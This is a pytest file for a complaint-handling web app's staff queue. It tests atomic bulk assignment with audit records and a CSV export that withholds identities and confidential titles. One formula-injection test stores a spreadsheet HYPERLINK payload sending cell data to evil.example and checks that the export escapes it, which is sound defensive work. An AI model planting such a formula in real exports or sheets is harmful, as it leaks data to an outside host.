"""Bulk work in the staff queue: assigning ticked complaints to one officer in one action, all
or nothing, and downloading a queue view as CSV (services/complaints/bulk.py, the views
staff.queue_assign and staff.queue_csv).

Each test builds its complaints through the services and drives the pages as a browser does:
the queue page's own form (its token, the versions it shows), then the answer and the rows.
"""
from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from datetime import timedelta
from urllib.parse import parse_qsl, urlencode, urlsplit

import pytest
from sqlalchemy import func, select

from pages import Page
from pengaduan.extensions import db
from pengaduan.models import AuditEvent, Complaint, ComplaintEvent, User, utcnow
from pengaduan.policy import Actor
from pengaduan.services import advance, create_user, file_complaint
from pengaduan.services.complaints import bulk
from test_staff import (ADMIN, AUDITOR, IDENTITY, OFFICER_A, OFFICER_A2, OFFICER_B, PASSWORD, QUEUE,
                        SUPERVISOR_A, audit_trail, get_page, org, queue_codes, raw_complaint,  # noqa: F401
                        signed_in, walk_queue)

ASSIGN = "/staff/queue/assign"
CSV = "/staff/queue.csv"
TWO_UNITS = "dua.unit@example.id"


def filed(app, n: int, title: str | None = None, **overrides) -> list[str]:
    """File n complaints (a minute apart, newest last); their tracking codes."""
    now = utcnow()
    with app.app_context():
        codes = [file_complaint(raw_complaint(title=title or f"Keluhan {i}", **overrides),
                                at=now - timedelta(minutes=n - i)).complaint.tracking_code
                 for i in range(n)]
        db.session.commit()
    return codes


def bulk_form(page: Page) -> dict:
    """What the queue page's bulk form sends, with nothing ticked."""
    values = dict(page.forms[ASSIGN].values)
    values.pop("codes", None)
    return values


def send(client, url: str, codes, assignee: str, page: Page | None = None, **extra):
    """Tick `codes` on the queue page at `url`, choose `assignee`, press "Assign selected"."""
    page = page or get_page(client, url)
    return client.post(ASSIGN, data={**bulk_form(page), "codes": list(codes), "assignee": assignee, **extra})


def assignees(app, codes) -> dict[str, str | None]:
    with app.app_context():
        return {code: (c.assignee.email if (c := Complaint.by_code(code)).assignee else None) for code in codes}


def chain_length(app) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count(AuditEvent.seq)))


def flashes(html: str) -> list[str]:
    return [" ".join(re.sub(r"<[^>]+>", " ", m).split())
            for m in re.findall(r'<div class="flash flash-\w+" role="status">(.*?)</div>', html, re.S)]


def error_text(html: str) -> str:
    match = re.search(r'<div class="error-summary".*?</div>', html, re.S)
    return " ".join(re.sub(r"<[^>]+>", " ", match.group(0)).split()) if match else ""


def ticked(page: Page, html: str) -> set[str]:
    return set(re.findall(r'name="codes" value="([^"]+)" id="[^"]+" checked', html))


# --- assigning a batch ---------------------------------------------------------------------


def test_a_batch_is_assigned_and_audited_as_single_assignments(app, org):
    """Three ticked complaints go to a colleague in one action: each gets the timeline step,
    the audit event (the same payload as a single assignment) and the notification; the
    officer returns to the same view with a message naming the count and the colleague."""
    codes = filed(app, 5)
    single = codes[4]
    officer = signed_in(app, OFFICER_A)
    token = get_page(officer, f"/staff/complaints/{single}").token
    assert officer.post(f"/staff/complaints/{single}/assign",
                        data={"csrf_token": token, "assignee": OFFICER_A2}).status_code == 302
    before = chain_length(app)
    view = f"{QUEUE}?state=received&unassigned=1"
    answer = send(officer, view, codes[:3], OFFICER_A2)
    assert answer.status_code == 302
    assert urlsplit(answer.location).path == QUEUE
    assert dict(parse_qsl(urlsplit(answer.location).query)) == {"state": "received", "unassigned": "1"}
    assert flashes(officer.get(answer.location).get_data(as_text=True)) == [
        "3 complaints assigned to Dewi Lestari."]
    assert assignees(app, codes) == {**dict.fromkeys(codes[:3], OFFICER_A2), codes[3]: None,
                                     single: OFFICER_A2}
    assert chain_length(app) == before + 3
    trail = audit_trail(app, action="complaint.assigned")
    assert len(trail) == 4
    (_, actor, one), *batch = trail
    assert [who for _, who, _ in batch] == [actor] * 3
    assert [set(p) for _, _, p in batch] == [set(one)] * 3
    assert [p["fields"] for _, _, p in batch] == [one["fields"]] * 3 == [{"assignee": OFFICER_A2}] * 3
    with app.app_context():
        for code in codes[:3]:
            steps = db.session.scalars(select(ComplaintEvent.kind).join(Complaint).where(
                Complaint.tracking_code == code, ComplaintEvent.kind == "assignment")).all()
            assert steps == ["assignment"]
    inbox = get_page(signed_in(app, OFFICER_A2), "/staff/notifications").html
    assert all(code in inbox for code in codes[:3])


def test_select_all_on_this_page_ticks_every_row_of_the_page_only(app, org):
    """Without JavaScript, "Select all on this page" reloads the same page (same cursor) with
    every row ticked; sending it assigns exactly those rows, and comes back to that page."""
    codes = filed(app, 30)
    officer = signed_in(app, OFFICER_A)
    first = get_page(officer, QUEUE)
    second_url = next(link for link in first.links if "cursor=" in link)
    second = get_page(officer, second_url)
    assert 'form="select-page" name="select" value="page"' in second.html
    again = second.forms["/staff/queue"].values  # the form the button sends: this same view
    assert again == dict(parse_qsl(urlsplit(second_url).query))
    html = officer.get(f"{QUEUE}?{urlencode({**again, 'select': 'page'})}").get_data(as_text=True)
    page = Page(html)
    shown = queue_codes(page)
    assert ticked(page, html) == set(shown) and len(shown) == 5
    answer = officer.post(ASSIGN, data={**bulk_form(page), "codes": shown, "assignee": OFFICER_A})
    assert answer.status_code == 302 and "cursor=" in answer.location
    assert {c for c, who in assignees(app, codes).items() if who} == set(shown)


def test_one_stale_complaint_refuses_the_whole_batch_and_keeps_the_choice(app, org):
    """A complaint changed by someone else after the page was loaded: nothing is assigned,
    the message names its code, the rows stay ticked and the officer stays chosen."""
    codes = filed(app, 4)
    officer = signed_in(app, OFFICER_A)
    page = get_page(officer, QUEUE)
    with app.app_context():  # a colleague takes one of them meanwhile
        advance(Complaint.by_code(codes[1]), "request_info", Actor.staff(User.by_email(OFFICER_A2)),
                message="Mohon foto KTP.")
        db.session.commit()
    before = chain_length(app)
    answer = send(officer, QUEUE, codes, OFFICER_A2, page=page)
    assert answer.status_code == 409
    html = answer.get_data(as_text=True)
    message = error_text(html)
    assert "Nothing was assigned" in message and codes[1] in message
    assert f"Changed by someone else after your page was loaded: {codes[1]}" in message
    assert "What you ticked and chose is kept" in message
    assert all(code not in message for code in codes if code != codes[1])
    assert ticked(Page(html), html) >= {codes[0], codes[2], codes[3]}
    assert re.search(rf'<option value="{re.escape(OFFICER_A2)}" selected>', html)
    assert set(assignees(app, codes).values()) == {None}
    assert chain_length(app) == before


def test_an_assignee_outside_a_complaints_unit_refuses_the_batch(app, org):
    """An officer of two units assigns complaints of both to an officer of unit B only: the
    unit-A ones are named (the officer does not belong to their unit), nothing is saved."""
    with app.app_context():
        create_user(TWO_UNITS, "officer", name="Dua Unit", password=PASSWORD, unit_codes=["UNIT-A", "UNIT-B"])
        db.session.commit()
    a_codes = filed(app, 2)
    b_codes = filed(app, 2, unit="UNIT-B", category="ONLY-B")
    both = signed_in(app, TWO_UNITS)
    page = get_page(both, QUEUE)
    options = page.html[page.html.index('id="assignee"'):page.html.index("</select>", page.html.index('id="assignee"'))]
    assert OFFICER_A2 in options and OFFICER_B in options and AUDITOR not in options
    answer = send(both, QUEUE, a_codes + b_codes, OFFICER_B, page=page)
    assert answer.status_code == 409
    message = error_text(answer.get_data(as_text=True))
    assert f"Agus Salim does not work in unit UNIT-A: {', '.join(a_codes)}" in message
    assert all(code not in message for code in b_codes)
    assert set(assignees(app, a_codes + b_codes).values()) == {None}
    assert send(both, QUEUE, b_codes, OFFICER_B).status_code == 302
    assert assignees(app, b_codes) == dict.fromkeys(b_codes, OFFICER_B)


def test_another_units_complaint_is_refused_like_an_unknown_code(app, org):
    """A unit-B code slipped into officer A's batch is refused as "no such complaint in your
    units", exactly like a code that does not exist, and nothing of the batch is saved."""
    mine = filed(app, 2)
    theirs = filed(app, 1, unit="UNIT-B", category="ONLY-B")[0]
    officer = signed_in(app, OFFICER_A)
    before = chain_length(app)
    answer = send(officer, QUEUE, [mine[0], theirs, "ZZZZ-ZZZZ", mine[1]], OFFICER_A2)
    assert answer.status_code == 409
    message = error_text(answer.get_data(as_text=True))
    assert f"No such complaint in your units: {theirs}, ZZZZ-ZZZZ" in message
    assert set(assignees(app, [*mine, theirs]).values()) == {None}
    assert chain_length(app) == before


def test_a_batch_over_the_cap_is_refused_with_the_numbers(app, org, monkeypatch):
    """More ticked complaints than the cap: refused as a whole, saying how many and the cap."""
    monkeypatch.setattr(bulk, "MAX_BATCH", 3)
    codes = filed(app, 4)
    officer = signed_in(app, OFFICER_A)
    answer = send(officer, QUEUE, codes, OFFICER_A2)
    assert answer.status_code == 422
    assert "4 complaints were selected; at most 3 can be assigned at once" in error_text(answer.get_data(as_text=True))
    assert set(assignees(app, codes).values()) == {None}
    assert send(officer, QUEUE, codes[:3], OFFICER_A2).status_code == 302


@pytest.mark.parametrize("codes, assignee, message", [
    (False, OFFICER_A2, "No complaint was selected"),
    (True, "", "Choose the officer to assign the selected complaints to"),
    (True, AUDITOR, f"{AUDITOR} is not an active officer or supervisor"),
], ids=["nothing-ticked", "no-officer", "not-an-officer"])
def test_an_incomplete_batch_says_what_is_missing(app, org, codes, assignee, message):
    complaints = filed(app, 2)
    chosen = complaints if codes else []
    officer = signed_in(app, OFFICER_A)
    answer = send(officer, QUEUE, chosen, assignee)
    assert answer.status_code == 422
    html = answer.get_data(as_text=True)
    assert message in error_text(html)
    assert ticked(Page(html), html) == set(chosen)


def test_bulk_assignment_is_not_for_auditors_and_needs_the_pages_token(app, org):
    """Auditors read the queue without the bulk form and are refused the action; a request
    without the page's token assigns nothing."""
    codes = filed(app, 2)
    auditor = signed_in(app, AUDITOR)
    page = get_page(auditor, QUEUE)
    assert ASSIGN not in page.forms and 'name="codes"' not in page.html
    token = page.token if any("csrf_token" in f.values for f in page.forms.values()) else ""
    assert auditor.post(ASSIGN, data={"csrf_token": token, "codes": codes, "assignee": OFFICER_A}).status_code == 403
    officer = signed_in(app, OFFICER_A)
    values = bulk_form(get_page(officer, QUEUE))
    values.pop("csrf_token")
    answer = officer.post(ASSIGN, data={**values, "codes": codes, "assignee": OFFICER_A2})
    assert answer.status_code == 422 and "The form expired" in answer.get_data(as_text=True)
    assert set(assignees(app, codes).values()) == {None}


def test_a_supervisor_assigns_in_their_unit(app, org):
    codes = filed(app, 2)
    supervisor = signed_in(app, SUPERVISOR_A)
    answer = send(supervisor, QUEUE, codes, OFFICER_A)
    assert answer.status_code == 302
    assert assignees(app, codes) == dict.fromkeys(codes, OFFICER_A)


# --- the CSV export ------------------------------------------------------------------------


def read_csv(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel reads it as UTF-8
    return list(csv.reader(io.StringIO(body[3:].decode("utf-8"))))


def export_form(client, query: dict | None = None) -> dict:
    """What the queue view's "Download CSV" button sends (the view and the page's token)."""
    return get_page(client, f"{QUEUE}?{urlencode(query or {})}").forms[CSV].values


def export(client, query: dict | None = None):
    answer = client.post(CSV, data=export_form(client, query))
    assert answer.status_code == 200, answer.status_code
    return answer


def test_the_csv_holds_every_row_of_the_view_in_queue_order(app, org):
    """All pages of the view (not only the first), in the page's order, with its columns."""
    codes = filed(app, 30)
    filed(app, 2, unit="UNIT-B", category="ONLY-B")
    with app.app_context():
        officer = Actor.staff(User.by_email(OFFICER_A))
        advance(Complaint.by_code(codes[3]), "verify", officer, unit="UNIT-A", category="ROADS",
                classification="pengaduan", assignee=OFFICER_A2)
        db.session.commit()
    client = signed_in(app, OFFICER_A)
    walked = [code for page in walk_queue(client, QUEUE) for code in page]
    answer = export(client)
    assert answer.mimetype == "text/csv"
    assert re.fullmatch(r'attachment; filename="antrean-pengaduan-\d{4}-\d{2}-\d{2}\.csv"',
                        answer.headers["Content-Disposition"])
    header, *rows = read_csv(answer)
    assert header == ["Tracking code", "Title", "State", "Unit", "Category", "Channel",
                      "Received (unit's local time)", "Stage due (unit's local time)",
                      "Resolution due (unit's local time)", "Assigned to", "Overdue"]
    assert [row[0] for row in rows] == walked and len(walked) == 30
    verified = next(row for row in rows if row[0] == codes[3])
    assert verified[1:6] == ["Keluhan 3", "Verified", "UNIT-A", "Jalan", "Web form"]
    assert verified[9:] == ["Dewi Lestari", "no"]
    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}", row[6]) for row in rows)
    # Indonesian by default
    client.set_cookie("lang", "id")
    assert read_csv(export(client))[0][:3] == ["Kode lacak", "Judul", "Status"]


def test_the_csv_follows_the_tab_and_filters_and_never_leaves_my_units(app, org):
    codes = filed(app, 6)
    b_codes = filed(app, 3, unit="UNIT-B", category="ONLY-B", title="Keluhan B")
    with app.app_context():
        officer = Actor.staff(User.by_email(OFFICER_A))
        for code in codes[:2]:
            advance(Complaint.by_code(code), "request_info", officer, message="Foto?")
        db.session.commit()
    client = signed_in(app, OFFICER_A)
    for query in ({"state": "awaiting_info"}, {"q": "Keluhan 4"}, {"unassigned": "1"}, {"state": "closed"}):
        expected = [code for page in walk_queue(client, f"{QUEUE}?{urlencode(query)}") for code in page]
        assert [row[0] for row in read_csv(export(client, query))[1:]] == expected, query
    assert sorted(row[0] for row in read_csv(export(client, {"state": "awaiting_info"}))[1:]) == sorted(codes[:2])
    mine = {row[0] for row in read_csv(export(client))[1:]}
    assert mine == set(codes) and not mine & set(b_codes)  # awaiting information is open too
    theirs = {row[0] for row in read_csv(export(signed_in(app, OFFICER_B)))[1:]}
    assert theirs == set(b_codes)
    everyone = {row[0] for row in read_csv(export(signed_in(app, AUDITOR)))[1:]}
    assert everyone == set(codes) | set(b_codes)


def test_the_csv_has_no_identity_withholds_confidential_titles_and_runs_no_formula(app, org):
    """No identity column at all, whatever the privacy mode; a confidential complaint's title
    is withheld; a title a spreadsheet would run as a formula is written as text."""
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+62 812 sekian", "-1+2", "@SUM(A1:A9)"]
    plain = [filed(app, 1, title=title)[0] for title in formulas]
    anonymous = filed(app, 1, privacy="anonymous", title="Pungli di loket")[0]
    secret = filed(app, 1, privacy="confidential", title="Kepala dinas minta uang")[0]
    answer = export(signed_in(app, SUPERVISOR_A))
    body = answer.get_data(as_text=True)
    for value in IDENTITY.values():
        assert value not in body
    rows = {row[0]: row for row in read_csv(answer)[1:]}
    assert [rows[code][1] for code in plain] == ["'" + title for title in formulas]
    assert rows[anonymous][1] == "Pungli di loket"
    assert rows[secret][1] == "(confidential: title withheld)" and "Kepala dinas" not in body
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row)


def test_an_export_is_recorded_in_the_audit_chain(app, org):
    """Who exported which view and how many rows, with the digest of the file sent; a search
    is kept as its digest (it may be a name)."""
    filed(app, 4)
    filed(app, 2, title="Pungli loket")
    client = signed_in(app, OFFICER_A)
    before = chain_length(app)
    answer = export(client, {"q": "pungli", "overdue": "", "state": ""})
    assert chain_length(app) == before + 1
    [(action, actor, payload)] = audit_trail(app, action="queue.exported")
    with app.app_context():
        assert actor == Actor.staff(User.by_email(OFFICER_A)).label
        assert db.session.scalars(select(AuditEvent.units).where(AuditEvent.action == "queue.exported")).one() == "UNIT-A"
    assert payload["rows"] == 2 == len(read_csv(answer)) - 1
    assert payload["sha256"] == hashlib.sha256(answer.get_data()).hexdigest()
    assert payload["units"] == ["UNIT-A"] and payload["format"] == "csv"
    assert payload["view"]["state"] == "open" and payload["view"]["overdue"] is False
    assert payload["view"]["search"] == {"sha256": hashlib.sha256(b"pungli").hexdigest(), "length": 6}
    assert "pungli" not in json.dumps(payload)
    export(signed_in(app, AUDITOR))
    assert audit_trail(app, action="queue.exported")[-1][2]["units"] == "all"


def test_a_view_over_the_export_cap_is_refused_and_not_recorded(app, org, monkeypatch):
    monkeypatch.setattr(bulk, "EXPORT_CAP", 2)
    filed(app, 3)
    client = signed_in(app, OFFICER_A)
    before = chain_length(app)
    answer = client.post(CSV, data=export_form(client, {"state": "received"}))
    assert answer.status_code == 302 and dict(parse_qsl(urlsplit(answer.location).query)) == {"state": "received"}
    assert "more than 2 complaints" in " ".join(flashes(client.get(answer.location).get_data(as_text=True)))
    assert chain_length(app) == before


def test_the_export_button_carries_the_view_and_needs_the_token(app, org):
    """The button sends the tab and filters (not the page: the file holds every page); without
    the page's token nothing is exported or recorded; admins do not read the queue."""
    filed(app, 1)
    client = signed_in(app, OFFICER_A)
    values = export_form(client, {"state": "received", "mine": "1", "q": "x", "cursor": "abc"})
    token = values.pop("csrf_token")
    assert values == {"state": "received", "mine": "1", "q": "x"}
    before = chain_length(app)
    assert client.post(CSV, data=values).status_code == 400
    assert client.get(CSV).status_code == 405
    assert chain_length(app) == before
    admin = signed_in(app, ADMIN)
    assert admin.post(CSV, data={"csrf_token": get_page(admin, "/account/password").token}).status_code == 403


def test_a_change_committed_during_the_batch_saves_nothing(app, org, monkeypatch):
    """Another writer commits a change to one of the complaints after the checks passed
    (PostgreSQL; SQLite lets no other writer in while the batch holds its write lock): the
    optimistic lock refuses the stale row, and the whole batch is rolled back."""
    with app.app_context():
        if db.engine.dialect.name == "sqlite":
            pytest.skip("SQLite serialises the whole request: no write can come in between")
    codes = filed(app, 3)
    real_assign = bulk.assign

    def assign_while_someone_else_writes(complaint, actor, assignee):
        if complaint.tracking_code == codes[2]:
            with db.engine.begin() as other:  # another request, committed at once
                other.execute(Complaint.__table__.update().where(Complaint.id == complaint.id)
                              .values(version=Complaint.__table__.c.version + 1))
        return real_assign(complaint, actor, assignee)

    monkeypatch.setattr(bulk, "assign", assign_while_someone_else_writes)
    officer = signed_in(app, OFFICER_A)
    before = chain_length(app)
    answer = send(officer, QUEUE, codes, OFFICER_A2)
    assert answer.status_code == 409
    assert "Someone else changed one of these complaints at the same moment" in error_text(answer.get_data(as_text=True))
    assert set(assignees(app, codes).values()) == {None}
    assert chain_length(app) == before
